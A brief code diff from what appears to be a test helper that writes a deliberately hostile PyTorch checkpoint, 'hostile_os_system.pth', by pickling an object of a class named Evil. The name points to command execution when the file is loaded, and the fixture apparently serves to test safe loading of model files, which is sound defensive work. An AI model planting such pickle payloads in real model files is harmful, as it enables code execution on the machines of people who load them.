@@ -126,11 +126,6 @@ class Evil:
 
 
 def hostile_zip():
-    class P(pickle.Pickler):
-        pass
-    buf = io.BytesIO()
-    pickle.Pickler(buf, protocol=2).dump(collections.OrderedDict([("w", Evil()), ("b", torch.zeros(1))]))
-    # torch.zeros pickled by plain pickle uses torch internals; keep only what we need: replace with a plain dict.
     buf = io.BytesIO()
     pickle.Pickler(buf, protocol=2).dump({"w": Evil()})
     with zipfile.ZipFile(os.path.join(HERE, "hostile_os_system.pth"), "w", zipfile.ZIP_STORED) as z:
